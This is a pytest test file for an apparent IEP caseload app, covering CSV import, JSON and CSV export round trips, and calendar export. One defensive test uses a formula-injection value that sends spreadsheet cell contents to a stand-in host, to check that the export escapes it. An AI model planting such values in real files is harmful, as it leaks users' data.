"""Importing a caseload CSV into the real file, and the full JSON and caseload CSV round trips."""

import csv
import io
import json
from datetime import date, datetime

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from iep_desk.core.csv_import import (
    ADD,
    REJECT,
    UNCHANGED,
    UPDATE,
    decide_date_order,
    guess_mapping,
    mapping_setting_key,
    read_csv,
    read_rows,
    unguard_formula,
)
from iep_desk.core.meetings import Meeting
from iep_desk.core.models import FamilyMember, Student, TeamMember
from iep_desk.core.problems import Problem
from iep_desk.storage.caseload import open_caseload
from iep_desk.storage.errors import SaveFailed
from iep_desk.storage.export import (
    CaseloadNotEmpty,
    ExportFormatError,
    caseload_csv_bytes,
    exported_tables,
    full_export,
    full_export_bytes,
    import_full_export,
    meetings_ics_bytes,
    read_full_export,
)
from iep_desk.storage.files import write_whole
from iep_desk.storage.importer import (
    ImportRefused,
    apply_import,
    preview_import,
    remember_mapping,
    remembered_mapping,
    starting_mapping,
    unmapped_columns,
)
from iep_desk.storage.settings import SettingsStore
from iep_desk.storage.stores import Stores

TODAY = date(2026, 11, 23)


def preview_of(store, text: str | bytes, order: str | None = None):
    data = text.encode("utf-8") if isinstance(text, str) else text
    table = read_csv(data)
    mapping = starting_mapping(store, table.headers)
    order = order or decide_date_order(table, mapping).order
    rows = read_rows(table, mapping, order, TODAY)
    return preview_import(store, rows, today=TODAY, unmapped=unmapped_columns(table, mapping))


def snapshot(store) -> dict:
    return {name: store.db.execute(f'SELECT * FROM "{name}" ORDER BY rowid').fetchall()
            for name in exported_tables(store.db)}


HEADER = "Student ID,First Name,Last Name,DOB,Grade,Last IEP Date,Annual Review Due,Parent Name," \
         "Parent Phone,Parent Email,Home Language,Bus Route\n"


def test_new_rows_are_added_with_their_guardian(store):
    preview = preview_of(store, HEADER +
                         "1001,Ánh,Nguyễn,03/14/2015,03,01/10/2026,01/09/2027,Mai Nguyễn,"
                         "555-0101,mai@example.org,Vietnamese,12\n")
    assert [r.action for r in preview.rows] == [ADD]
    assert preview.unmapped_columns == ["Bus Route"]
    result = apply_import(store, preview)
    assert result.added == 1 and result.guardians_added == 1
    student = store.list_students()[0]
    assert (student.legal_first_name, student.legal_last_name, student.grade) == ("Ánh", "Nguyễn", "3")
    assert student.date_of_birth == date(2015, 3, 14)
    assert student.annual_review_due == date(2027, 1, 9)
    link = store.family_of(student.id)[0]
    assert (link.member.name, link.member.phones, link.member.email, link.member.preferred_language) \
        == ("Mai Nguyễn", "555-0101", "mai@example.org", "vi")


def test_rows_match_by_student_id_then_by_name_and_birth_date(store):
    by_id = Student("Ann", "Lee", district_student_id="1001", grade="2",
                    date_of_birth=date(2015, 1, 2))
    by_name = Student("Bo", "Ray", date_of_birth=date(2014, 5, 6), grade="4")
    other_id = Student("Cy", "Day", district_student_id="9999", date_of_birth=date(2013, 1, 1))
    for s in (by_id, by_name, other_id):
        store.add_student(s)
    preview = preview_of(store, HEADER.replace(",Parent Name,Parent Phone,Parent Email,"
                                               "Home Language,Bus Route", "") +
                         "1001,Annie,Lee,2015-01-02,3,,\n"   # same ID, new first name and grade
                         ",bo,RAY,2014-05-06,4,,\n"         # same name and birth date: unchanged
                         "2002,Cy,Day,2013-01-01,,,\n"      # same name, different ID: new student
                         "3003,Bo,Ray,2014-05-07,,,\n")     # different birth date: new
    actions = [(r.row_number, r.action, r.student_id) for r in preview.rows]
    assert actions == [(2, UPDATE, by_id.id), (3, UNCHANGED, by_name.id), (4, ADD, None),
                       (5, ADD, None)]
    changes = preview.rows[0].details[0]
    assert changes.code == "import_changes"
    assert [field.key for field in changes.values["fields"]] == ["legal_first_name", "grade"]
    assert str(changes) == "changes legal first name, grade"
    apply_import(store, preview)
    updated = store.get_student(by_id.id)
    assert (updated.legal_first_name, updated.grade) == ("Annie", "3")
    assert store.count_students() == 5


def test_empty_cells_never_erase_what_is_on_file(store):
    store.add_student(Student("Ann", "Lee", district_student_id="7", school="North",
                              grade="5"))
    preview = preview_of(store, "Student ID,First Name,School,Grade\n7,Ann,,6\n")
    apply_import(store, preview)
    student = store.list_students()[0]
    assert (student.school, student.grade) == ("North", "6")


def test_update_that_conflicts_with_a_date_on_file_is_rejected(store):
    store.add_student(Student("Ann", "Lee", district_student_id="7",
                              last_iep_meeting=date(2026, 6, 1)))
    preview = preview_of(store, "Student ID,First Name,Annual Review Due\n7,Ann,2026-05-01\n")
    assert preview.rows[0].action == REJECT
    assert preview.rejection_lines() == [
        "row 2: the annual review cannot be due before the last IEP meeting"]


def test_a_corrected_date_of_birth_updates_the_student(store):
    """A date with no partner date to check it against (the date of birth): the preview
    stopped with a KeyError instead of offering the update."""
    store.add_student(Student("Ann", "Lee", district_student_id="7",
                              date_of_birth=date(2015, 1, 2)))
    preview = preview_of(store, "Student ID,First Name,Date of Birth\n7,Ann,2015-02-01\n")
    assert preview.rows[0].action == UPDATE
    assert str(preview.rows[0].details[0]) == "changes date of birth"
    apply_import(store, preview)
    assert store.list_students()[0].date_of_birth == date(2015, 2, 1)


def test_a_name_corrected_by_an_import_reaches_the_students_meetings_still_planned(store):
    """The student's own row in a planned meeting takes the corrected name (its letters are
    still to be printed); a held meeting keeps the name it was held with."""
    from iep_desk.core.meeting_rules import student_participant

    student_id = store.add_student(Student("Ayaan", "Ahmed", district_student_id="7"))
    meetings = Stores.of(store).meetings
    planned, held = (meetings.create_meeting(Meeting(student_id, starts_at=starts,
                                                     status=status), today=TODAY)
                     for status, starts in (("confirmed", datetime(2026, 12, 10, 9)),
                                            ("held", datetime(2026, 10, 1, 9))))
    for meeting_id in (planned, held):
        meetings.add_participant(student_participant(store.get_student(student_id), meeting_id))
    apply_import(store, preview_of(store, "Student ID,First Name,Last Name\n7,Ayan,Ahmed\n"))
    assert store.get_student(student_id).legal_first_name == "Ayan"
    assert [p.name for p in meetings.participants_of(planned)] == ["Ayan Ahmed"]
    assert [p.name for p in meetings.participants_of(held)] == ["Ayaan Ahmed"]


def test_duplicate_rows_in_one_file_are_rejected_with_the_earlier_row(store):
    preview = preview_of(store, "Student ID,First Name\n5,Ann\n5,Anne\n")
    assert preview.rows[1].action == REJECT
    assert preview.rows[1].details == [Problem.of("import_same_id_as_row", row=2)]


def test_rejected_rows_block_the_import_unless_skipped(store):
    preview = preview_of(store, "First Name,DOB\nAnn,2015-01-01\nBo,2015-13-45\n")
    assert preview.rejection_lines() == ["row 3: date of birth 2015-13-45 is not a date"]
    before = snapshot(store)
    with pytest.raises(ImportRefused):
        apply_import(store, preview)
    assert snapshot(store) == before
    result = apply_import(store, preview, skip_rejected=True)
    assert (result.added, result.skipped) == (1, 1)
    assert [s.legal_first_name for s in store.list_students()] == ["Ann"]


def test_guardian_on_update_updates_the_same_person_and_siblings_share_a_parent(store):
    ann = Student("Ann", "Lee", district_student_id="1")
    store.add_student(ann)
    store.add_family_member(FamilyMember("Kim Lee", phones="555-0100"), student_id=ann.id,
                            relationship="mother")
    preview = preview_of(store, "Student ID,First Name,Last Name,Parent Name,Parent Email,"
                                "Relationship\n"
                                "1,Ann,Lee,Kim Lee,kim@example.org,mother\n"
                                "2,Bo,Lee,Kim Lee,kim@example.org,mother\n"
                                "3,Cy,Lee,Kim Lee,kim@example.org,mother\n")
    assert [r.action for r in preview.rows] == [UPDATE, ADD, ADD]
    result = apply_import(store, preview)
    assert result.guardians_added == 0
    members = store.list_family_members()
    assert len(members) == 1 and members[0].email == "kim@example.org"
    for student in store.list_students():
        assert [link.member.id for link in store.family_of(student.id)] == [members[0].id]


def test_new_siblings_in_one_file_share_one_new_parent(store):
    preview = preview_of(store, "First Name,Last Name,Parent Name,Parent Phone\n"
                                "Ann,Lee,Kim Lee,555 0100\nBo,Lee,Kim Lee,555 0100\n")
    result = apply_import(store, preview)
    assert result.guardians_added == 1
    assert len(store.list_family_members()) == 1


def test_a_failure_while_writing_leaves_the_file_as_it_was(store):
    store.add_student(Student("Zed", "Before"))
    preview = preview_of(store, "First Name\n" + "".join(f"S{i}\n" for i in range(30)))
    before = snapshot(store)
    # A trigger stands in for a full disk halfway through the import.
    store.db.execute("CREATE TEMP TRIGGER full_disk BEFORE INSERT ON main.students "
                     "WHEN (SELECT count(*) FROM main.students) >= 15 "
                     "BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END")
    with pytest.raises(SaveFailed) as error:
        apply_import(store, preview)
    assert "Nothing was imported" in str(error.value)
    store.db.execute("DROP TRIGGER full_disk")
    assert snapshot(store) == before


def test_the_mapping_is_remembered_for_the_same_headers(store):
    headers = ["Kid", "Born"]
    assert remembered_mapping(store, headers) is None
    assert starting_mapping(store, headers) == [None, None]
    remember_mapping(store, headers, ["legal_first_name", "date_of_birth"])
    assert SettingsStore(store.db).get(mapping_setting_key(headers)) == ["legal_first_name", "date_of_birth"]
    assert starting_mapping(store, ["KID", "born"]) == ["legal_first_name", "date_of_birth"]
    assert starting_mapping(store, ["Kid", "Born", "Extra"]) == guess_mapping(["Kid", "Born", "Extra"])


# -- the full JSON export -------------------------------------------------------------------

def fill_caseload(store) -> None:
    ann = Student("Ánh", "Nguyễn", preferred_name="Annie", date_of_birth=date(2015, 3, 14),
                  grade="3", school="North", district_student_id="1001",
                  disability_category="autism", last_iep_meeting=date(2026, 1, 10),
                  annual_review_due=date(2027, 1, 9), strengths="drawing, \"quoted\"\nnew line",
                  participation="attends")
    bo = Student("Bo", "Ray", date_of_birth=date(2014, 5, 6))
    store.add_student(ann)
    store.add_student(bo)
    store.archive_student(bo.id)
    mother = FamilyMember("Mai Nguyễn", phones="555-0101", email="mai@example.org",
                          preferred_language="vi", interpreter_needed=True,
                          contact_confirmed_on=date(2026, 9, 1))
    store.add_family_member(mother, student_id=ann.id, relationship="mother")
    store.link_family_member(bo.id, mother.id, "aunt")
    team = TeamMember("Ms. Ortiz", role="school_psychologist", email="ortiz@example.org")
    store.add_team_member(team)
    store.add_to_team(ann.id, team.id)
    SettingsStore(store.db).set("deadlines.notice_days", 5)
    # The planner's tables too: the export finds them without being told.
    stores = Stores(store.db)
    meeting = Meeting(ann.id, starts_at=datetime(2026, 12, 10, 15, 30), place="Room 12",
                      status="proposed")
    stores.meetings.create_meeting(meeting, today=TODAY)
    stores.meetings.add_family_participant(meeting.id, mother.id)
    stores.meetings.add_team_participant(meeting.id, team.id)
    stores.meetings.add_typed_participant(meeting.id, "Mr. Advocate", "advocate")


def test_full_export_round_trips_every_row_of_every_table(store, tmp_path):
    fill_caseload(store)
    data = full_export_bytes(store)
    export = read_full_export(data)
    assert export["schema_version"] == store.db.execute("PRAGMA user_version").fetchone()[0]
    assert export["app_version"] and export["exported_at"]
    assert set(export["tables"]) == set(exported_tables(store.db))
    target = open_caseload(tmp_path / "elsewhere")
    try:
        counts = import_full_export(target, export)
        assert counts["students"] == 2 and counts["meetings"] == 1 and counts["participants"] == 3
        assert snapshot(target) == snapshot(store)
        for name in exported_tables(store.db):  # column order too, not only values
            assert [c[1] for c in target.db.execute(f'PRAGMA table_info("{name}")')] == \
                   [c[1] for c in store.db.execute(f'PRAGMA table_info("{name}")')]
        assert target.get_student(1).strengths == 'drawing, "quoted"\nnew line'
        assert SettingsStore(target.db).deadline_settings().notice_days == 5
    finally:
        target.db.close()


def strict_json(data: bytes) -> dict:
    """JSON as the standard has it: NaN and Infinity are not JSON (Python reads them)."""
    def refuse(constant: str):
        raise ValueError(f"{constant} is not JSON")
    return json.loads(data, parse_constant=refuse)


def test_a_number_json_cannot_hold_is_named_and_nothing_exported(store):
    """A caseload from before the goals import refused "inf" and "1e309" may hold one: the
    export names the goal and its student (the teacher corrects it on the goals tab)
    instead of writing "Infinity", which is not JSON."""
    from iep_desk.core.goals import Goal, ProgressNote
    from iep_desk.storage.export import ExportRefused

    fill_caseload(store)
    goals = Stores(store.db).goals
    reading = goals.save_goal(Goal(None, 1, "Reading", "Reads 90 words a minute", baseline=40,
                                   target=90))
    assert strict_json(full_export_bytes(store))["tables"]["goals"]["rows"]
    store.db.execute("UPDATE goals SET target = 9e999 WHERE id = ?", [reading.id])
    with pytest.raises(ExportRefused) as refused:
        full_export_bytes(store)
    assert refused.value.code == "export_goal_not_finite"
    assert str(refused.value) == (
        "The goal “Reads 90 words a minute” of Annie Nguyễn holds a number that is not a real "
        "number (infinity, from an older goals import). Enter its baseline, target and "
        "progress values again on the student's “IEP goals and services” tab, then export "
        "again. Nothing was exported.")
    # A progress note of the goal is found too (the goal is named).
    store.db.execute("UPDATE goals SET target = 90 WHERE id = ?", [reading.id])
    goals.add_note(ProgressNote(None, reading.id, TODAY, value=50))
    store.db.execute("UPDATE progress_notes SET value = -9e999")
    with pytest.raises(ExportRefused) as refused:
        full_export_bytes(store)
    assert refused.value.values == {"goal": "Reads 90 words a minute", "student": "Annie Nguyễn"}
    # Anywhere else (a damaged file): said without naming a goal.
    store.db.execute("UPDATE progress_notes SET value = 50")
    store.db.execute("UPDATE meetings SET duration_minutes = 9e999")
    with pytest.raises(ExportRefused) as refused:
        full_export_bytes(store)
    assert refused.value.code == "export_number_not_finite"


def test_full_export_finds_tables_added_later_and_keeps_binary_values(store):
    store.db.execute("CREATE TABLE later_notes (id INTEGER PRIMARY KEY, body BLOB, weight REAL)")
    store.db.execute("INSERT INTO later_notes VALUES (1, x'00ff10', 2.5)")
    export = full_export(store)
    assert export["tables"]["later_notes"]["rows"] == [[1, {"$base64": "AP8Q"}, 2.5]]


def test_full_export_is_only_imported_into_an_empty_caseload(store, tmp_path):
    fill_caseload(store)
    export = full_export(store)
    before = snapshot(store)
    with pytest.raises(CaseloadNotEmpty):
        import_full_export(store, export)
    assert snapshot(store) == before


@pytest.mark.parametrize("data, words", [
    (b"not json", "not an IEP Desk full export"),
    (b'{"format": "something else"}', "not an IEP Desk full export"),
    ((b'{"format": "iep-desk-full-export", "format_version": 1, "schema_version": 999, '
      b'"migrations": [], "tables": {}}'), "newer version"),
    ((b'{"format": "iep-desk-full-export", "format_version": 1, "schema_version": 1, '
      b'"migrations": [], "tables": {"students": {"rows": []}}}'), "damaged"),
])
def test_wrong_export_files_are_refused_in_plain_words(data, words):
    with pytest.raises(ExportFormatError) as error:
        read_full_export(data)
    assert words in str(error.value)


def test_export_with_unknown_table_or_broken_links_changes_nothing(store, tmp_path):
    fill_caseload(store)
    export = full_export(store)
    export["tables"]["student_family"]["rows"].append([999, 999, "ghost", 0])
    target = open_caseload(tmp_path / "elsewhere")
    try:
        before = snapshot(target)
        with pytest.raises(ExportFormatError) as error:
            import_full_export(target, export)
        assert ("Table “student_family”, row 3, column “student_id”: 999 refers to a row of "
                "“students” that is not in the file") in str(error.value)
        assert snapshot(target) == before
        export["tables"]["mystery"] = {"columns": ["a"], "rows": [[1]]}
        with pytest.raises(ExportFormatError):
            import_full_export(target, export)
        assert snapshot(target) == before
    finally:
        target.db.close()


# -- the caseload CSV ----------------------------------------------------------------------

def student_facts(store) -> list[tuple]:
    facts = []
    for s in store.list_students():
        family = store.family_of(s.id)
        guardian = family[0] if family else None
        facts.append((
            s.legal_first_name, s.legal_last_name, s.preferred_name, s.date_of_birth, s.grade,
            s.school, s.district_student_id, s.disability_category, s.last_iep_meeting,
            s.annual_review_due, s.last_evaluation, s.reevaluation_due, s.strengths,
            s.hopes_and_dreams, s.culture_and_traditions, s.participation,
            guardian and (guardian.member.name, guardian.relationship, guardian.member.phones,
                          guardian.member.email, guardian.member.preferred_language)))
    return facts


def test_caseload_csv_round_trips(store, tmp_path):
    fill_caseload(store)
    store.add_student(Student("Cy", "O'Day", district_student_id="0042", grade="K",
                              last_evaluation=date(2024, 2, 29), reevaluation_due=date(2027, 2, 28),
                              disability_category="specific_learning_disability"))
    data = caseload_csv_bytes(store)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents right
    target = open_caseload(tmp_path / "elsewhere")
    try:
        preview = preview_of(target, data)
        assert preview.count(ADD) == 2 and not preview.rejected and not preview.unmapped_columns
        apply_import(target, preview)
        assert student_facts(target) == student_facts(store)
        # Importing the same file again changes nothing.
        again = preview_of(target, data)
        assert [r.action for r in again.rows] == [UNCHANGED, UNCHANGED]
    finally:
        target.db.close()


def test_written_files_are_private_and_replace_whole(tmp_path):
    target = tmp_path / "out.json"
    target.write_bytes(b"old")
    write_whole(target, b"new contents")
    assert target.read_bytes() == b"new contents"
    import sys
    if sys.platform != "win32":
        assert target.stat().st_mode & 0o077 == 0
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


# -- property tests: never a crash, never a partial import -----------------------------------

NAME_CHARS = st.sampled_from(
    list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ '-,;\"") +
    [chr(c) for c in range(0xC0, 0x100)])
NAMES = st.text(NAME_CHARS, min_size=0, max_size=12)
GOOD_DATES = st.dates(min_value=date(1990, 1, 1), max_value=date(2026, 1, 1))
BAD_DATES = st.sampled_from(["13/45/2015", "2015-02-30", "soon", "31/31/2031", "1/2/15", "00/00/0000"])


@st.composite
def caseload_files(draw):
    style = draw(st.sampled_from(["iso", "mdy", "dmy"]))
    rows = []
    for _ in range(draw(st.integers(0, 12))):
        born = draw(st.one_of(GOOD_DATES, BAD_DATES, st.just(None)))
        rows.append((draw(NAMES), draw(NAMES), born, draw(st.sampled_from(["", "K", "3", "07"]))))
    return {"style": style, "rows": rows,
            "encoding": draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"])),
            "delimiter": draw(st.sampled_from([",", ";"])),
            "fail_after": draw(st.one_of(st.none(), st.integers(0, 12)))}


def write_file(spec) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=spec["delimiter"], lineterminator="\r\n")
    writer.writerow(["First Name", "Last Name", "Birthdate", "Grade"])
    formats = {"iso": "%Y-%m-%d", "mdy": "%m/%d/%Y", "dmy": "%d/%m/%Y"}
    for first, last, born, grade in spec["rows"]:
        text = born.strftime(formats[spec["style"]]) if isinstance(born, date) else (born or "")
        writer.writerow([first, last, text, grade])
    return out.getvalue().encode(spec["encoding"])


@pytest.fixture(scope="module")
def shared_store(tmp_path_factory):
    store = open_caseload(tmp_path_factory.mktemp("property") / "data")
    store.add_student(Student("Already", "Here", date_of_birth=date(2012, 1, 1)))
    yield store
    store.db.close()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(spec=caseload_files())
@example(spec={"style": "iso", "rows": [("'-", "", date(2000, 1, 1), "")], "encoding": "utf-8",
               "delimiter": ",", "fail_after": None})
def test_csv_import_never_crashes_and_lands_whole_or_not_at_all(shared_store, spec):
    store = shared_store
    table = read_csv(write_file(spec))
    assert len(table.rows) == sum(1 for r in spec["rows"] if any([r[0].strip(), r[1].strip(),
                                                                    r[2], r[3]]))
    mapping = guess_mapping(table.headers)
    order = decide_date_order(table, mapping)
    chosen = order.order or (spec["style"] if spec["style"] != "iso" else None)
    if order.needs_question:
        chosen = spec["style"] if spec["style"] != "iso" else "mdy"
    rows = read_rows(table, mapping, chosen, TODAY)
    preview = preview_import(store, rows, today=TODAY)
    assert len(preview.rows) == len(table.rows)
    for prow in preview.rows:  # what was written is what was read, whatever the encoding
        if prow.action == ADD:
            first = prow.row.student["legal_first_name"]
            # ("'-" is read as "-": the quote that guards a formula-like cell is taken off.)
            assert first in {" ".join(unguard_formula(r[0]).split()) for r in spec["rows"]}
    before = snapshot(store)
    if spec["fail_after"] is not None and preview.writable:
        limit = store.count_students() + min(spec["fail_after"], len(preview.writable) - 1)
        store.db.execute("CREATE TEMP TRIGGER full_disk BEFORE INSERT ON main.students "
                         f"WHEN (SELECT count(*) FROM main.students) >= {limit} "
                         "BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END")
        try:
            if preview.count(ADD):
                with pytest.raises(SaveFailed):
                    apply_import(store, preview, skip_rejected=True)
            else:
                apply_import(store, preview, skip_rejected=True)
        finally:
            store.db.execute("DROP TRIGGER full_disk")
        if preview.count(ADD):
            assert snapshot(store) == before
        return
    if preview.rejected:
        with pytest.raises(ImportRefused):
            apply_import(store, preview)
        assert snapshot(store) == before
        return
    if preview.writable:
        count = store.count_students()
        result = apply_import(store, preview)
        assert store.count_students() == count + result.added == count + preview.count(ADD)


def test_meetings_export_to_one_calendar_file(store):
    from icalendar import Calendar

    fill_caseload(store)
    stores = Stores(store.db)
    undated = Meeting(store.list_students()[0].id)
    stores.meetings.create_meeting(undated, today=TODAY)
    calendar = Calendar.from_ical(meetings_ics_bytes(store))
    events = calendar.walk("VEVENT")
    assert len(events) == 1  # the undated draft is left out
    event = events[0]
    assert event.decoded("dtstart") == datetime(2026, 12, 10, 15, 30)
    assert "Room 12" in str(event.get("location"))
    assert "Nguyễn" not in str(event.get("summary"))  # calendars are shared: no full legal name
    assert event.get("attendee") is None  # nor the family's names and emails, unless asked
    named = Calendar.from_ical(meetings_ics_bytes(store, include_names=True)).walk("VEVENT")[0]
    assert any("mai@example.org" in str(a) for a in named.get("attendee"))


# -- issue 13: two writers, one file -----------------------------------------------------------

TWO_STUDENTS = ("Student ID,First Name,Last Name,DOB\n1001,Ann,Lee,2015-01-02\n"
                ",Bo,Ray,2014-05-06\n")


def test_a_preview_made_before_another_import_adds_nobody_twice(store, data_dir):
    waiting = preview_of(store, TWO_STUDENTS)  # the dialog's preview, waiting for Import
    assert [r.action for r in waiting.rows] == [ADD, ADD]
    other = open_caseload(data_dir)  # a second writer on the same file gets there first
    try:
        apply_import(other, preview_of(other, TWO_STUDENTS))
    finally:
        other.db.close()
    result = apply_import(store, waiting)
    assert (result.added, result.unchanged) == (0, 2)
    assert sorted(s.legal_name for s in store.list_students()) == ["Ann Lee", "Bo Ray"]


def test_the_file_refuses_two_active_students_with_one_district_id(store):
    import sqlite3

    store.add_student(Student("Ann", "Lee", district_student_id="1001"))
    with pytest.raises(sqlite3.IntegrityError):
        store.db.execute("INSERT INTO students (legal_first_name, district_student_id) "
                         "VALUES ('Annie', '1001')")
    # Archived students and students without an ID are not held to it.
    store.db.execute("INSERT INTO students (legal_first_name, district_student_id, archived_at) "
                     "VALUES ('Old', '1001', '2026-01-01T00:00:00')")
    store.add_student(Student("No", "Id"))
    store.add_student(Student("No", "Id either"))
    assert store.count_students() == 3 and store.count_students(archived=True) == 1
    # The store turns the refusal into a message for the teacher.
    bo = Student("Bo", "Ray")
    store.add_student(bo)
    with pytest.raises(SaveFailed) as error:
        store.update_field("students", bo.id, "district_student_id", "1001")
    assert "student ID" in str(error.value) and "UNIQUE" not in str(error.value)


def test_an_import_prefers_the_active_student_when_an_archived_one_shares_the_id(store):
    store.db.execute("INSERT INTO students (legal_first_name, district_student_id, archived_at) "
                     "VALUES ('Old', '1001', '2026-01-01T00:00:00')")
    active = Student("Ann", "Lee", district_student_id="1001")
    store.add_student(active)
    preview = preview_of(store, "Student ID,First Name,Last Name,Grade\n1001,Ann,Lee,4\n")
    assert [(r.action, r.student_id) for r in preview.rows] == [(UPDATE, active.id)]


# -- issue 13: the same name in two Unicode forms -------------------------------------------

def test_accents_written_as_combining_marks_match_the_student_on_file(store):
    import unicodedata

    composed = Student("José", "Muñoz", date_of_birth=date(2015, 1, 2))
    store.add_student(composed)
    mother = FamilyMember("Zoë Muñoz", phones="555-0100")
    store.add_family_member(mother, student_id=composed.id, relationship="mother")
    decomposed = unicodedata.normalize("NFD", "First Name,Last Name,DOB,Parent Name\n"
                                              "José,Muñoz,2015-01-02,Zoë Muñoz\n")
    assert decomposed != unicodedata.normalize("NFC", decomposed)
    preview = preview_of(store, decomposed)
    assert [(r.action, r.student_id) for r in preview.rows] == [(UNCHANGED, composed.id)]
    assert store.count_students() == 1 and len(store.list_family_members()) == 1


def test_names_on_file_in_the_other_form_match_and_new_names_are_stored_composed(store):
    import unicodedata

    # An older import stored macOS's decomposed spelling.
    store.db.execute("INSERT INTO students (legal_first_name, legal_last_name, date_of_birth) "
                     "VALUES (?, ?, '2015-01-02')",
                     [unicodedata.normalize("NFD", "José"), unicodedata.normalize("NFD", "Muñoz")])
    preview = preview_of(store, "First Name,Last Name,DOB\nJosé,Muñoz,2015-01-02\n"
                                + unicodedata.normalize("NFD", "Zoë,Dupré,2016-03-04\n"))
    assert [r.action for r in preview.rows] == [UNCHANGED, ADD]
    apply_import(store, preview)
    stored = store.db.execute("SELECT legal_first_name, legal_last_name FROM students "
                              "WHERE legal_first_name LIKE 'Zo%'").fetchone()
    assert stored == ("Zoë", "Dupré")
    assert all(unicodedata.is_normalized("NFC", text) for text in stored)


# -- issue 13: what export writes, import reads ----------------------------------------------

def test_csv_export_guards_formulas_and_the_round_trip_is_exact(store, tmp_path):
    risky = Student("=HYPERLINK(\"http://example.com/?\"&A1)", "-Ana", preferred_name="@me",
                    school="+North", strengths="'-already quoted", hopes_and_dreams="=1+1")
    store.add_student(risky)
    store.add_family_member(FamilyMember("-Kim", phones="+1 555 0100", email="kim@example.org"),
                            student_id=risky.id, relationship="mother")
    data = caseload_csv_bytes(store)
    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    assert "'=HYPERLINK(\"http://example.com/?\"&A1)" in cells and "'+1 555 0100" in cells
    assert "''-already quoted" in cells
    target = open_caseload(tmp_path / "elsewhere")
    try:
        apply_import(target, preview_of(target, data))
        assert student_facts(target) == student_facts(store)
    finally:
        target.db.close()


def test_a_300_kb_note_goes_out_and_comes_back(store, tmp_path):
    note = "\n".join(f"Week {i}: read a chapter aloud and retold it in order." for i in range(6000))
    assert len(note) > 300_000
    store.add_student(Student("Ann", "Lee", strengths=note))
    data = caseload_csv_bytes(store)
    target = open_caseload(tmp_path / "elsewhere")
    try:
        preview = preview_of(target, data)
        assert [r.action for r in preview.rows] == [ADD]
        apply_import(target, preview)
        assert target.list_students()[0].strengths == note
    finally:
        target.db.close()


def test_import_summaries_count_in_words(store):
    result = apply_import(store, preview_of(store, "First Name,Parent Name,Parent Phone\n"
                                                   "Ann,Kim,555\n"))
    assert result.summary() == "Imported: 1 student added, 0 updated, 1 parent/guardian added."
    preview = preview_of(store, "First Name,DOB\nBo,2015-13-45\nCy,2015-01-01\n")
    with pytest.raises(ImportRefused) as error:
        apply_import(store, preview)
    assert str(error.value).startswith("1 row was rejected")
    result = apply_import(store, preview, skip_rejected=True)
    assert result.summary() == "Imported: 1 student added, 0 updated; 1 rejected row skipped."


def _apply_in_a_child(data_dir, text: str, start, results) -> None:
    store = open_caseload(data_dir)
    try:
        preview = preview_of(store, text)  # both previews are made before either writes
        start.wait(timeout=60)
        results.put(apply_import(store, preview).added)
    finally:
        store.db.close()


def test_two_processes_writing_the_same_file_at_once_add_every_student_once(data_dir):
    """No lock here (the command line takes one too): the write transaction alone must do."""
    import multiprocessing

    open_caseload(data_dir).db.close()
    text = "Student ID,First Name,Last Name\n" + "".join(
        f"{5000 + i},Kid{i},Family{i}\n" for i in range(300))
    context = multiprocessing.get_context("spawn")
    start, results = context.Barrier(2), context.Queue()
    children = [context.Process(target=_apply_in_a_child, args=(data_dir, text, start, results))
                for _ in range(2)]
    for child in children:
        child.start()
    added = sorted(results.get(timeout=120) for _ in children)
    for child in children:
        child.join(timeout=60)
    assert added == [0, 300]
    store = open_caseload(data_dir)
    try:
        assert store.count_students() == 300
    finally:
        store.db.close()
